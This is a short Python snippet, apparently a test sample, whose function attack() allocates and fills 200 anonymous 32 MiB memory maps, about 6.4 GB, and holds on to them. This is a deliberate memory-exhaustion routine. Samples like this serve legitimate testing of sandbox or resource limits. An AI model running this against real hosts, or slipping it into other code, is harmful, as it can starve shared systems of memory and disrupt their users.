import mmap


def attack():
    taken = []
    for _ in range(200):
        block = mmap.mmap(-1, 32 << 20)
        block.write(bytes(32 << 20))
        taken.append(block)
    return 1
